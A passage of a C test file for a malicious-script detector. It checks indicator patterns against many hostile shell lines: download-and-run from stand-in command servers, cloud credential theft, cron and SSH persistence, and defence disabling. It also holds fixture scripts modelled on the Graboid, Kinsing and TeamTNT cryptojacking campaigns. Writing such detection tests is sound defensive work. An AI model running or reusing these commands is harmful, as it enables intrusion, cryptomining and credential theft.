/*
 * test_indicators.c - the script indicator list and its matcher: every
 * indicator of the shipped signatures/script.indicators hit by a text of the
 * behaviour it names and not by benign look-alikes; the score thresholds on
 * whole scripts modelled on Graboid, Kinsing and TeamTNT and on a benign
 * installer; scope bits, list order, the hit cap and the score cap; loader
 * errors with FILE:LINE; a catastrophic regex stopped by the match limit
 * (JIT and interpreter) and counted, not hung on. ctest runs it from the
 * source root, so the shipped file is loaded from its relative path.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#include "check.h"
#include "indicators.h"

#define LIST_PATH "signatures/script.indicators"

static char err[512];
static struct indicator_set *set;
static struct indicator_scratch *scr;
static char *list_text; /* the shipped file, for order checks and the no-JIT load */
static size_t list_len;

static void scan(const struct indicator_set *s, struct indicator_scratch *x, unsigned scope,
                 const char *text, struct indicator_result *r)
{
    indicators_scan(s, x, scope, (const uint8_t *)text, strlen(text), r);
}

static int has(const struct indicator_result *r, const char *name)
{
    for (unsigned i = 0; i < r->nhits; i++)
        if (strcmp(r->hit[i].name, name) == 0)
            return 1;
    return 0;
}

static void show(const char *what, const struct indicator_result *r)
{
    fprintf(stderr, "  %s: score %u errors %u:", what, r->score, r->errors);
    for (unsigned i = 0; i < r->nhits; i++)
        fprintf(stderr, " %s(%u)", r->hit[i].name, r->hit[i].weight);
    fprintf(stderr, "\n");
}

/* The line in the shipped file where indicator `name` is defined (0: none). */
static unsigned line_of(const char *name)
{
    size_t nl = strlen(name);
    unsigned line = 1;

    for (size_t i = 0; i < list_len; i++) {
        if ((i == 0 || list_text[i - 1] == '\n') && list_len - i > nl &&
            memcmp(list_text + i, name, nl) == 0 && list_text[i + nl] == ' ')
            return line;
        line += list_text[i] == '\n';
    }
    return 0;
}

/* ---- every indicator, one behaviour each --------------------------------- */

struct example {
    const char *name;
    unsigned scope;
    const char *text;
};

#define S IND_SCOPE_SCRIPT
#define B IND_SCOPE_BEACON

static const struct example positives[] = {
    {"download-pipe-shell", S, "curl -fsSL http://c2.example/i.sh | sh"},
    {"download-pipe-shell", S, "wget -O- http://c2.example/i.sh | bash"},
    {"download-pipe-shell", S, "wget -q -O - http://c2.example/i.sh | sh"},
    {"download-pipe-shell", S, "(curl -s http://a/d.sh||wget -q -O- http://a/d.sh)|sh"},
    {"download-pipe-shell", S, "bash -c \"$(curl -fsSL http://c2.example/i.sh)\""},
    {"download-pipe-shell", S, "__curl http://c2.example/x | bash"},
    {"download-pipe-shell", S, "busybox wget -O- http://c2.example/x | sh"},
    {"download-pipe-shell", S, "curl -s http://c2.example/x | sudo -E /bin/bash -s"},
    {"download-then-run", S, "curl -o /tmp/x http://a/x; chmod +x /tmp/x; /tmp/x"},
    {"download-then-run", S, "wget http://a/x -O .x && chmod 755 .x && ./.x"},
    {"download-then-run", S, "curl -s http://a/x -o ./sysd\nchmod +x sysd\nnohup ./sysd &"},
    {"chmod-exec-hidden", S, "chmod 777 /dev/shm/.k"},
    {"chmod-exec-hidden", S, "chmod +x $DIR/.sysupdate"},
    {"python-fetch", S,
     "python3 -c \"import urllib.request as u; exec(u.urlopen('http://a/p').read())\""},
    {"python-fetch", S, "python -c 'import urllib;urllib.urlretrieve(\"http://a/x\",\"/tmp/x\")'"},
    {"perl-fetch", S, "perl -e 'use LWP::Simple; getstore(\"http://a/x\",\"/tmp/x\")'"},
    {"perl-fetch", S, "use LWP::Simple;getstore(\"http://127.0.0.66/k\",\"/tmp/.k\");"},
    {"python-fetch", S,
     "import urllib.request\ncode = urllib.request.urlopen(C2 + \"/s2.py\").read()\n"
     "exec(compile(code, \"<s2>\", \"exec\"))\n"},
    {"chmod-exec-hidden", S, "chmod 0755,\"/tmp/.k\";"},
    {"busybox-fetch", S, "busybox wget http://c2.example/mips -O m"},
    {"dev-tcp", S, "exec 3<>/dev/tcp/198.51.100.9/80"},
    {"url-ip-literal", S, "URL=http://198.51.100.9/a.sh"},
    {"base64-pipe-shell", S, "echo ZWNobyBoaQ== | base64 -d | bash"},
    {"base64-pipe-shell", S, "echo ZWNobyBoaQ== | base64 --decode | sh"},
    {"base64-pipe-shell", S, "bash -c \"$(echo ZWNobyBoaQ== | base64 -d)\""},
    {"base64-pipe-shell", S, "eval $(echo $P | base64 -d)"},
    {"hex-pipe-shell", S, "echo 6563686f206869 | xxd -r -p | sh"},
    {"hex-pipe-shell", S, "printf '\\x65\\x63\\x68\\x6f\\x20\\x68\\x69\\x0a' | sh"},
    {"python-exec-decoded", S, "python3 -c \"import base64;exec(base64.b64decode('cHJpbnQ='))\""},
    {"docker-remote-host", S, "docker -H tcp://198.51.100.9:2375 ps"},
    {"docker-remote-host", S, "DOCKER_HOST=tcp://10.0.0.5:2375 docker ps"},
    {"docker-api-port", S, "curl http://$IP:2375/info"},
    {"docker-api-call", S, "curl -X POST http://h:2375/v1.24/containers/create -d @c.json"},
    {"docker-api-call", S, "curl -s -X POST http://h:2375/containers/abc/start"},
    {"docker-sock", S, "-v /var/run/docker.sock:/var/run/docker.sock"},
    {"docker-privileged", S, "docker run -d --privileged alpine"},
    {"docker-privileged", S, "{\"HostConfig\":{\"Privileged\": true}}"},
    {"docker-host-mount", S, "docker run -v /:/host alpine"},
    {"docker-host-mount", S, "{\"Binds\":[\"/:/mnt\"]}"},
    {"chroot-host", S, "chroot /host bash -c 'id'"},
    {"nsenter-host", S, "nsenter --target 1 --mount --uts --ipc --net --pid -- bash"},
    {"docker-malicious-image", S, "docker pull pocosow/centos:7.6.1810"},
    {"xmrig", S, "./xmrig -c config.json"},
    {"miner-software", S, "nohup ./xmr-stak-rx &"},
    {"kinsing-artifact", S, "/tmp/kdevtmpfsi &"},
    {"stratum-url", S, "-o stratum+ssl://pool.example.org:443"},
    {"stratum-url", S, "url=stratum+tcp://pool.example.org:3333"},
    {"miner-donate-level", S, "--donate-level 1"},
    {"miner-pool-option", S, "./m -o pool.supportxmr.com:3333 -u x"},
    {"miner-cpu-option", S, "--cpu-priority 5"},
    {"miner-config", S, "{\"cpu\": {\"huge-pages-jit\": true}, \"donate-over-proxy\": 1}"},
    {"nicehash", S, "--nicehash"},
    {"mining-algorithm", S, "-a rx/0"},
    {"mining-algorithm", S, "--algo=cryptonight"},
    {"mining-algorithm", S, "randomx mode"},
    {"hugepages-msr", S, "sysctl -w vm.nr_hugepages=1280"},
    {"hugepages-msr", S, "modprobe msr allow_writes=on"},
    {"crontab-install", S, "(crontab -l; echo '@daily /tmp/x') | crontab -"},
    {"crontab-install", S, "crontab /tmp/.cron"},
    {"cron-file-write", S, "echo '*/5 * * * * root /tmp/.x' > /etc/cron.d/sysupdate"},
    {"cron-fetch-line", S, "*/5 * * * * wget -q -O- http://h/d.sh | sh"},
    {"cron-fetch-line", S, "echo \"@reboot curl -s http://h/d.sh | sh\""},
    {"systemd-enable", S, "systemctl enable agent"},
    {"systemd-unit-write", S, "cat > /etc/systemd/system/agent.service <<EOF"},
    {"systemd-exec-hidden", S, "[Service]\nExecStart=/tmp/.sysd/sysd\n"},
    {"systemd-exec-hidden", S, "ExecStart=/bin/bash -c 'curl -s http://h/d.sh | sh'"},
    {"rc-local", S, "echo /tmp/.x >> /etc/rc.local"},
    {"ssh-authorized-keys", S, "echo 'ssh-rsa AAAAB3Nza x' >> ~/.ssh/authorized_keys"},
    {"ssh-authorized-keys", S, "cat k.pub >> /root/.ssh/authorized_keys2"},
    {"profile-hook", S, "echo '/tmp/.x &' >> ~/.bashrc"},
    {"account-backdoor", S, "useradd -o -u 0 -g 0 -M sysadm"},
    {"account-backdoor", S, "echo 'x ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers"},
    {"chattr-immutable", S, "chattr -i /etc/crontab"},
    {"chattr-immutable", S, "chattr +i /etc/ld.so.preload"},
    {"chattr-immutable", S, "tntrecht -ia /etc/passwd"},
    {"history-wipe", S, "history -c"},
    {"history-wipe", S, "unset HISTFILE"},
    {"history-wipe", S, "ln -sf /dev/null ~/.bash_history"},
    {"selinux-off", S, "setenforce 0 2>/dev/null"},
    {"selinux-off", S, "echo SELINUX=disabled > /etc/selinux/config"},
    {"firewall-off", S, "ufw disable"},
    {"firewall-off", S, "iptables -F"},
    {"firewall-off", S, "systemctl stop firewalld"},
    {"kill-security-agent", S, "pkill -f aliyun-service"},
    {"kill-security-agent", S, "killall -9 AliYunDun"},
    {"kill-security-agent", S, "/usr/local/qcloud/stargate/admin/uninstall.sh"},
    {"kill-security-agent", S, "curl -s http://update.aegis.aliyun.com/download/uninstall.sh"},
    {"kill-competing-miners", S, "pkill -f kdevtmpfsi"},
    {"kill-competing-miners", S, "ps aux | grep kinsing | awk '{print $2}' | xargs kill -9"},
    {"kill-competing-miners", S, "netstat -anp | grep :3333 | awk '{print $7}' | xargs kill -9"},
    {"kill-competing-miners", S, "docker ps | grep xmrig | awk '{print $1}' | xargs docker stop"},
    {"kill-high-cpu", S, "ps aux | awk '{if($3>50.0) print $2}' | xargs kill -9"},
    {"log-wipe", S, "rm -rf /var/log"},
    {"log-wipe", S, "echo > /var/log/wtmp"},
    {"ld-so-preload", S, "echo /usr/local/lib/x.so > /etc/ld.so.preload"},
    {"process-hider", S, "gcc -shared -fPIC -o libprocesshider.so processhider.c -ldl"},
    {"process-hider", S, "mount --bind /tmp/empty /proc/$PID"},
    {"scanner-tool", S, "masscan 10.0.0.0/8 --rate=10000"},
    {"scanner-tool", S, "zgrab --port 2375 --http=/v1.16/version"},
    {"scanner-tool", S, "pnscan -r Docker 10.0.0.0/8 2375"},
    {"nmap", S, "nmap -sS 10.0.0.0/24"},
    {"scan-container-ports", S, "masscan 10.0.0.0/8 -p2375,2376 --rate 5000"},
    {"ssh-spread", S, "ssh -oStrictHostKeyChecking=no -oBatchMode=yes root@$h 'curl -s u|sh'"},
    {"ssh-hosts-harvest", S, "cat ~/.ssh/known_hosts | awk '{print $1}'"},
    {"ssh-hosts-harvest", S, "grep -E '(ssh|scp)' ~/.bash_history"},
    {"cloud-credential-theft", S, "cat ~/.aws/credentials"},
    {"cloud-credential-theft", S,
     "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/"},
    {"cloud-credential-theft", S, "env | grep AWS_ > /tmp/.env"},
    {"post-host-info", S, "curl -s -d \"cpu=$(nproc)&h=$(hostname)\" http://h/live.php"},
    {"post-host-info", S, "C=$(nproc); curl -s --data \"cpu=$C\" http://h/l"},
    {"post-host-info", S, "wget -q -O- \"http://h/r?u=`uname -a`\""},
    {"recon-cpu-count", S, "make -j$(nproc)"},
    {"recon-cpu-count", S, "grep -c ^processor /proc/cpuinfo"},
    {"beacon-uname", B,
     "Linux web01 5.10.0-21-amd64 #1 SMP Debian 5.10.162-1 (2023-01-21) x86_64 GNU/Linux"},
    {"beacon-uname", B,
     "u=Linux+web01+4.15.0-112-generic+%23113-Ubuntu+SMP+x86_64+x86_64+GNU%2FLinux"},
    {"beacon-cpu-count", B, "cpu=8&h=x"},
    {"beacon-cpu-count", B, "{\"cores\": 16}"},
    {"beacon-hostname", B, "a=1&hostname=web01"},
    {"beacon-os", B, "os=Linux&v=1"},
    {"beacon-os", B, "{\"arch\":\"x86_64\"}"},
    {"beacon-root-user", B, "user=root&x=1"},
    {"beacon-root-user", B, "id=uid%3D0%28root%29"},
    {"beacon-cpuinfo", B, "model name\t: Intel(R) Xeon(R) CPU E5-2676 v3 @ 2.40GHz"},
    {"beacon-cpuinfo", B, "m=model+name%09%3A+AMD+EPYC"},
};

/* Texts a benign script has, each of which must not raise the named indicator. */
static const struct example negatives[] = {
    {"download-pipe-shell", S, "curl -fsSL -o agent.tar.gz https://x.example/agent.tar.gz"},
    {"download-pipe-shell", S, "curl -s https://api.example/v | jq .version"},
    {"download-pipe-shell", S, "curl -s https://x.example/a; echo | sh"},
    {"download-then-run", S, "curl -o /tmp/a.tar.gz https://x/a.tar.gz\ntar xzf /tmp/a.tar.gz"},
    {"chmod-exec-hidden", S, "chmod 644 /tmp/notes.txt"},
    {"chmod-exec-hidden", S, "chmod +x ./install.sh"},
    {"python-fetch", S, "r = urllib.request.urlopen(u)\nprint(json.loads(r.read()))\n"},
    {"url-ip-literal", S, "curl http://127.0.0.1:8080/health"},
    {"docker-remote-host", S, "docker -h"},
    {"docker-remote-host", S, "docker -H unix:///var/run/docker.sock ps"},
    {"docker-api-port", S, "listen 23750"},
    {"docker-host-mount", S, "docker run -v /data:/data img"},
    {"crontab-install", S, "crontab -l"},
    {"cron-fetch-line", S, "echo '0 3 * * * /usr/sbin/logrotate /etc/logrotate.conf'"},
    {"log-wipe", S, "rm -rf /var/log/myapp"},
    {"log-wipe", S, "echo started >> /var/log/messages"},
    {"miner-pool-option", S, "curl -o /tmp/file https://x.example/f"},
    {"miner-pool-option", S, "ssh -o StrictHostKeyChecking=no host"},
    {"ssh-spread", S, "ssh -o StrictHostKeyChecking=no deploy@h uptime"},
    {"cloud-credential-theft", S, "echo 'Put your keys in ~/.aws/credentials'"},
    {"kill-competing-miners", S, "kill -HUP $(cat /run/nginx.pid)"},
    {"history-wipe", S, "history | tail"},
    {"chattr-immutable", S, "chattr +A /data"},
    {"monero-wallet", S, "4AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"},
    {"beacon-hostname", B, "host=example.com&user=alice"},
    {"beacon-root-user", B, "user=alice&pass=x"},
};

static void test_each_indicator(void)
{
    struct indicator_result r;
    const char *seen[INDICATOR_MAX];
    unsigned nseen = 0;

    for (size_t i = 0; i < sizeof(positives) / sizeof(positives[0]); i++) {
        const struct example *e = &positives[i];
        unsigned k;

        scan(set, scr, e->scope, e->text, &r);
        CHECK_EQ(r.errors, 0);
        if (!has(&r, e->name)) {
            fprintf(stderr, "  %s not hit by \"%s\"\n", e->name, e->text);
            show("got", &r);
            CHECK(0);
        } else {
            CHECK(1);
        }
        CHECK(line_of(e->name) > 0);
        for (k = 0; k < nseen && strcmp(seen[k], e->name) != 0; k++)
            ;
        if (k == nseen && nseen < INDICATOR_MAX)
            seen[nseen++] = e->name;
    }
    /* every shipped indicator has an example here (the long blob and the wallet are below) */
    CHECK_EQ(nseen + 2, indicators_count(set));

    for (size_t i = 0; i < sizeof(negatives) / sizeof(negatives[0]); i++) {
        const struct example *e = &negatives[i];

        scan(set, scr, e->scope, e->text, &r);
        if (has(&r, e->name)) {
            fprintf(stderr, "  %s hit by benign \"%s\"\n", e->name, e->text);
            CHECK(0);
        } else {
            CHECK(1);
        }
    }
}

/* The two indicators whose examples are too long to write inline. */
static void test_long_examples(void)
{
    static const char b58[] = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz";
    char wallet[200], blob[600];
    struct indicator_result r;

    /* a 95-character Monero address */
    memcpy(wallet, "-u 4B", 5);
    for (int i = 0; i < 93; i++)
        wallet[5 + i] = b58[i % 58];
    strcpy(wallet + 98, " -p x");
    scan(set, scr, S, wallet, &r);
    CHECK(has(&r, "monero-wallet"));
    wallet[97] = '\0'; /* 94 characters: too short */
    scan(set, scr, S, wallet, &r);
    CHECK(!has(&r, "monero-wallet"));
    wallet[97] = '0'; /* '0' is not base58: the address breaks */
    scan(set, scr, S, wallet, &r);
    CHECK(!has(&r, "monero-wallet"));

    memcpy(blob, "echo ", 5);
    for (int i = 0; i < 480; i++)
        blob[5 + i] = "SGVsbG8gV29ybGQh"[i % 16];
    strcpy(blob + 485, " > /tmp/p");
    scan(set, scr, S, blob, &r);
    CHECK(has(&r, "long-base64-blob"));
    blob[5 + 390] = ' '; /* two runs of 390 and 89 */
    scan(set, scr, S, blob, &r);
    CHECK(!has(&r, "long-base64-blob"));
}

/* ---- whole scripts and the thresholds ------------------------------------- */

/* Graboid's live.sh reports the host's CPU count to the C2 (Unit 42, 2019). */
static const char graboid_live[] =
    "#!/bin/sh\n"
    "while true; do\n"
    "  curl -s -X POST -d \"cpu=$(nproc)\" http://203.0.113.7/live.php\n"
    "  sleep 600\n"
    "done\n";

/* worm.sh: runs the worm and the miner on random Docker hosts of a list. */
static const char graboid_worm[] =
    "#!/bin/sh\n"
    "curl -s http://203.0.113.7/IP -o /tmp/ips\n"
    "for i in 1 2 3; do\n"
    "  H=$(shuf -n 1 /tmp/ips)\n"
    "  T=$(shuf -n 1 /tmp/ips)\n"
    "  docker -H tcp://$H:2375 run -dt --restart always pocosow/centos sh -c \"curl -s "
    "http://203.0.113.7/worm.sh | sh\"\n"
    "  docker -H tcp://$T:2375 run -dt --restart always gakeaws/nginx sh -c \"curl -s "
    "http://203.0.113.7/xmr.sh | sh\"\n"
    "done\n";

/* xmr.sh: fetch XMRig and start it against a pool. */
static const char graboid_xmr[] = "#!/bin/sh\n"
                                  "cd /tmp\n"
                                  "curl -s -o xmrig http://203.0.113.7/xmrig\n"
                                  "chmod +x xmrig\n"
                                  "./xmrig -o stratum+tcp://pool.example.org:4444 -u x -p x -B\n";

/* cleanxmr.sh: stop the XMRig containers on other hosts. */
static const char graboid_cleanxmr[] =
    "#!/bin/sh\n"
    "for h in $(cat /tmp/ips); do\n"
    "  docker -H tcp://$h:2375 ps | grep xmrig | awk '{print $1}' | xargs -r docker -H "
    "tcp://$h:2375 stop\n"
    "done\n";

/* Kinsing's d.sh, as Aqua (2020) describes it: defences off, rivals killed, cron, miner. */
static const char kinsing[] =
    "#!/bin/bash\n"
    "ulimit -n 65535\n"
    "setenforce 0 2>/dev/null\n"
    "echo SELINUX=disabled > /etc/selinux/config\n"
    "ufw disable\n"
    "iptables -F\n"
    "curl -s http://update.aegis.aliyun.com/download/uninstall.sh | bash\n"
    "pkill -f sustse\n"
    "ps aux | grep -v grep | grep 'xmrig' | awk '{print $2}' | xargs -I % kill -9 %\n"
    "ps aux | awk '{if($3>40.0) print $2}' | xargs kill -9\n"
    "chattr -i /etc/crontab\n"
    "(crontab -l 2>/dev/null; echo \"* * * * * (curl -s http://198.51.100.9/d.sh||wget -q -O- "
    "http://198.51.100.9/d.sh)|sh > /dev/null 2>&1\") | crontab -\n"
    "(curl -s -o /tmp/kdevtmpfsi http://198.51.100.9/kinsing || wget -q -O /tmp/kdevtmpfsi "
    "http://198.51.100.9/kinsing)\n"
    "chmod +x /tmp/kdevtmpfsi\n"
    "nohup /tmp/kdevtmpfsi > /dev/null 2>&1 &\n"
    "history -c\n";

/* A smaller Kinsing-like dropper: only curl|bash, crontab, chattr and rival-killing. */
static const char kinsing_small[] =
    "#!/bin/sh\n"
    "chattr -i /var/spool/cron/root\n"
    "pkill -9 -f kthreaddi\n"
    "(crontab -l; echo '*/10 * * * * curl -fsSL http://c2.example/d.sh | bash') | crontab -\n"
    "curl -fsSL http://c2.example/m.sh | bash\n";

/* TeamTNT's escape-and-steal script (Cado 2020, Trend Micro 2021). */
static const char teamtnt[] =
    "#!/bin/bash\n"
    "export HISTFILE=/dev/null\n"
    "cat ~/.aws/credentials > /tmp/.aws.txt\n"
    "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/ >> /tmp/.aws.txt\n"
    "masscan 172.16.0.0/12 -p2375 --rate=50000 | awk '{print $6}' > /tmp/.h\n"
    "for h in $(cat /tmp/.h); do\n"
    "  docker -H $h:2375 run --rm --privileged -v /:/host alpine chroot /host sh -c 'id'\n"
    "done\n";

/* A vendor-style installer: download, verify, unpack, install a unit, enable it. */
static const char benign_installer[] =
    "#!/bin/sh\n"
    "# Example Agent installer. Usage: sh install.sh\n"
    "set -eu\n"
    "VERSION=\"2.4.1\"\n"
    "URL=\"https://downloads.example.com/agent/${VERSION}/agent-linux-amd64.tar.gz\"\n"
    "TMP=$(mktemp -d)\n"
    "curl -fsSL -o \"$TMP/agent.tar.gz\" \"$URL\"\n"
    "curl -fsSL -o \"$TMP/agent.tar.gz.sha256\" \"$URL.sha256\"\n"
    "(cd \"$TMP\" && sha256sum -c agent.tar.gz.sha256)\n"
    "mkdir -p /opt/example-agent\n"
    "tar xzf \"$TMP/agent.tar.gz\" -C /opt/example-agent\n"
    "make -C /opt/example-agent/src -j$(nproc)\n"
    "install -m 0644 /opt/example-agent/agent.service /etc/systemd/system/example-agent.service\n"
    "systemctl daemon-reload\n"
    "systemctl enable example-agent\n"
    "rm -rf \"$TMP\"\n"
    "echo \"Installed example-agent $VERSION. Start it with: systemctl start example-agent\"\n";

/* A web page that documents a one-line install: text, not a script. */
static const char doc_page[] = "<html><body><h1>Install</h1><p>Run:</p>\n"
                               "<pre><code>curl -fsSL https://get.example.com | sh</code></pre>\n"
                               "</body></html>\n";

/* What a live.sh-style beacon POSTs (URL-encoded uname -a). */
static const char beacon_body[] =
    "cpu=4&hostname=web01&uname=Linux+web01+5.10.0-21-amd64+%231+SMP+Debian+5.10.162-1+"
    "%282023-01-21%29+x86_64+GNU%2FLinux&user=root";

static void expect_score(const char *what, const char *text, unsigned scope, unsigned lo,
                         unsigned hi, const char *const *names)
{
    struct indicator_result r;
    unsigned sum = 0;
    int ok = 1;

    scan(set, scr, scope, text, &r);
    CHECK_EQ(r.errors, 0);
    for (unsigned i = 0; i < r.nhits; i++)
        sum += r.hit[i].weight;
    CHECK_EQ(r.score, sum > 100 ? 100 : sum);
    if (r.score < lo || r.score > hi)
        ok = 0;
    for (; names && *names; names++)
        if (!has(&r, *names)) {
            fprintf(stderr, "  %s: missing %s\n", what, *names);
            ok = 0;
        }
    if (!ok)
        show(what, &r);
    CHECK(ok);
}

static void test_thresholds(void)
{
    static const char *const live[] = {"post-host-info", "url-ip-literal", NULL};
    static const char *const worm[] = {"docker-remote-host", "docker-api-port",
                                       "docker-malicious-image", "download-pipe-shell", NULL};
    static const char *const xmr[] = {"xmrig", "stratum-url", "download-then-run", NULL};
    static const char *const clean[] = {"docker-remote-host", "kill-competing-miners", NULL};
    static const char *const kin[] = {
        "download-pipe-shell",   "crontab-install",     "cron-fetch-line", "chattr-immutable",
        "kill-competing-miners", "kill-security-agent", "selinux-off",     "firewall-off",
        "history-wipe",          "kinsing-artifact",    "kill-high-cpu",   NULL};
    static const char *const kin_small[] = {"download-pipe-shell", "crontab-install",
                                            "chattr-immutable", "kill-competing-miners", NULL};
    static const char *const tnt[] = {"history-wipe",
                                      "cloud-credential-theft",
                                      "scanner-tool",
                                      "docker-privileged",
                                      "docker-host-mount",
                                      "chroot-host",
                                      NULL};
    static const char *const benign[] = {"systemd-enable", "systemd-unit-write", NULL};
    static const char *const beacon[] = {"beacon-uname", "beacon-cpu-count", "beacon-hostname",
                                         "beacon-root-user", NULL};
    char stager[700];
    static const char *const stg[] = {"base64-pipe-shell", "long-base64-blob", NULL};

    expect_score("live.sh", graboid_live, S, 30, 59, live);
    expect_score("worm.sh", graboid_worm, S, 60, 100, worm);
    expect_score("xmr.sh", graboid_xmr, S, 60, 100, xmr);
    expect_score("cleanxmr.sh", graboid_cleanxmr, S, 60, 100, clean);
    expect_score("kinsing d.sh", kinsing, S, 100, 100, kin);
    expect_score("kinsing small", kinsing_small, S, 80, 100, kin_small);
    expect_score("teamtnt", teamtnt, S, 60, 100, tnt);
    expect_score("benign installer", benign_installer, S, 0, 15, benign);
    expect_score("beacon body", beacon_body, B, 60, 100, beacon);

    /* TeamTNT's stager: a long base64 script piped to bash */
    strcpy(stager, "#!/bin/bash\necho ");
    for (int i = 0; i < 480; i++)
        stager[17 + i] = "IyEvYmluL2Jhc2gK"[i % 16];
    strcpy(stager + 497, " | base64 -d | bash\n");
    expect_score("teamtnt stager", stager, S, 30, 100, stg);

    /* the documentation page: one pipe-to-shell, low; the engine does not scan pages as scripts */
    {
        static const char *const doc[] = {"download-pipe-shell", NULL};
        struct indicator_result r;

        expect_score("doc page as script", doc_page, S, 1, 29, doc);
        scan(set, scr, B, doc_page, &r);
        CHECK_EQ(r.nhits, 0);
        CHECK_EQ(r.score, 0);
    }
}

/* ---- scope, order, caps, odd arguments ------------------------------------ */

static void test_scope_and_order(void)
{
    struct indicator_result r, r2;
    static const char both[] = "curl -d \"cpu=$(nproc)\" http://203.0.113.7/ ; cpu=4&hostname=x\n"
                               "xmrig; xmrig; stratum+tcp://p:1 stratum+tcp://p:2\n";

    /* beacon indicators only with the beacon bit, script ones only with the script bit */
    scan(set, scr, S, beacon_body, &r);
    CHECK(!has(&r, "beacon-uname"));
    CHECK(!has(&r, "beacon-cpu-count"));
    scan(set, scr, S, both, &r);
    CHECK(has(&r, "post-host-info"));
    CHECK(!has(&r, "beacon-cpu-count"));
    scan(set, scr, B, both, &r2);
    CHECK(has(&r2, "beacon-cpu-count"));
    CHECK(!has(&r2, "post-host-info"));
    CHECK(!has(&r2, "xmrig"));
    scan(set, scr, S | B, both, &r);
    CHECK(has(&r, "post-host-info"));
    CHECK(has(&r, "beacon-cpu-count"));
    CHECK(has(&r, "xmrig"));
    scan(set, scr, 0, both, &r);
    CHECK_EQ(r.nhits, 0);
    CHECK_EQ(r.score, 0);
    scan(set, scr, 4, both, &r); /* an unknown bit selects nothing */
    CHECK_EQ(r.nhits, 0);

    /* hits in list order, each name once however often it occurs */
    scan(set, scr, S | B, kinsing, &r);
    for (unsigned i = 0; i < r.nhits; i++) {
        for (unsigned k = 0; k < i; k++)
            CHECK(strcmp(r.hit[i].name, r.hit[k].name) != 0);
        if (i)
            CHECK(line_of(r.hit[i - 1].name) < line_of(r.hit[i].name));
        CHECK(r.hit[i].category != NULL && r.hit[i].weight >= 1 && r.hit[i].weight <= 100);
    }
    scan(set, scr, S, both, &r);
    {
        unsigned n = 0;

        for (unsigned i = 0; i < r.nhits; i++)
            n += strcmp(r.hit[i].name, "xmrig") == 0;
        CHECK_EQ(n, 1);
    }

    /* categories come from the fixed set */
    scan(set, scr, S, graboid_xmr, &r);
    for (unsigned i = 0; i < r.nhits; i++)
        if (strcmp(r.hit[i].name, "xmrig") == 0)
            CHECK_STR(r.hit[i].category, "miner");

    /* bytes, not strings: NULs inside, nothing read past len */
    {
        static const uint8_t bin[] = {0x7f, 'E', 'L', 'F', 0, 'x', 'm', 'r', 'i', 'g', 0, 0xff};

        indicators_scan(set, scr, S, bin, sizeof(bin), &r);
        CHECK(has(&r, "xmrig"));
        indicators_scan(set, scr, S, (const uint8_t *)"xmrig", 4, &r);
        CHECK(!has(&r, "xmrig"));
    }

    /* odd arguments: an empty result, no crash */
    indicators_scan(set, scr, S, NULL, 0, &r);
    CHECK_EQ(r.nhits, 0);
    indicators_scan(set, scr, S, NULL, 5, &r);
    CHECK_EQ(r.nhits, 0);
    indicators_scan(NULL, scr, S, (const uint8_t *)"xmrig", 5, &r);
    CHECK_EQ(r.nhits, 0);
    indicators_scan(set, NULL, S, (const uint8_t *)"xmrig", 5, &r);
    CHECK_EQ(r.nhits, 0);
    indicators_scan(set, scr, S, (const uint8_t *)"xmrig", 5, NULL);
    CHECK_EQ(indicators_count(NULL), 0);
    indicators_free(NULL);
    indicators_scratch_free(NULL);
}

static void test_caps(void)
{
    char text[40 * 40];
    size_t n = 0;
    struct indicator_set *s;
    struct indicator_scratch *x;
    struct indicator_result r;

    /* 40 indicators that all hit: 32 recorded, all 40 weights scored */
    for (int i = 0; i < 40; i++)
        n += (size_t)snprintf(text + n, sizeof(text) - n, "i%02d 1 script recon x\n", i);
    s = indicators_load_mem("caps", text, n, 0, err, sizeof(err));
    CHECK(s != NULL);
    x = indicators_scratch_new(s);
    CHECK(x != NULL);
    if (s && x) {
        indicators_scan(s, x, S, (const uint8_t *)"x", 1, &r);
        CHECK_EQ(r.nhits, INDICATOR_MAX_HITS);
        CHECK_EQ(r.score, 40);
        CHECK_STR(r.hit[0].name, "i00");
        CHECK_STR(r.hit[31].name, "i31");
    }
    indicators_scratch_free(x);
    indicators_free(s);

    /* weights add up to more than 100: the score stops there */
    s = indicators_load_mem("caps", "a 60 script miner a\nb 60 script miner b\n", 40, 0, err,
                            sizeof(err));
    CHECK(s != NULL);
    x = indicators_scratch_new(s);
    if (s && x) {
        indicators_scan(s, x, S, (const uint8_t *)"ab", 2, &r);
        CHECK_EQ(r.nhits, 2);
        CHECK_EQ(r.score, 100);
        indicators_scan(s, x, S, (const uint8_t *)"b", 1, &r);
        CHECK_EQ(r.score, 60);
    }
    indicators_scratch_free(x);
    indicators_free(s);
}

/* ---- the file format --------------------------------------------------------- */

static void expect_err(const char *text, const char *where, const char *what)
{
    struct indicator_set *s =
        indicators_load_mem("t.indicators", text, strlen(text), 0, err, sizeof(err));

    CHECK(s == NULL);
    indicators_free(s);
    if (!strstr(err, where) || !strstr(err, what)) {
        fprintf(stderr, "  error was: \"%s\" (wanted \"%s\" and \"%s\")\n", err, where, what);
        CHECK(0);
    } else {
        CHECK(1);
    }
}

static void test_format(void)
{
    struct indicator_set *s;
    struct indicator_scratch *x;
    struct indicator_result r;
    char big[8192];

    /* comments, blank lines, CRLF, tabs, '#' inside a pattern, trailing blanks dropped */
    static const char ok[] = "# header\n"
                             "\n"
                             "   # indented comment\n"
                             "a-1\t10\tscript\tminer\tfoo#bar\r\n"
                             "b2 5 script,beacon recon (?i)^uname  \t\n"
                             "c 100 beacon,script beacon \\x20end\n"
                             "   \t\n";
    s = indicators_load_mem("ok", ok, sizeof(ok) - 1, 0, err, sizeof(err));
    CHECK(s != NULL);
    CHECK_EQ(indicators_count(s), 3);
    x = indicators_scratch_new(s);
    if (s && x) {
        indicators_scan(s, x, S, (const uint8_t *)"foo#bar\nUNAME -a  end", 21, &r);
        CHECK_EQ(r.nhits, 3);
        CHECK_EQ(r.score, 100);
        indicators_scan(s, x, B, (const uint8_t *)"foo#bar\nUNAME -a", 16, &r);
        CHECK_EQ(r.nhits, 1); /* b2 only: a-1 is script-only, c has no " end" */
        CHECK_STR(r.hit[0].name, "b2");
        CHECK_STR(r.hit[0].category, "recon");
        /* the trailing blanks of b2's pattern were dropped: "uname" then end of line */
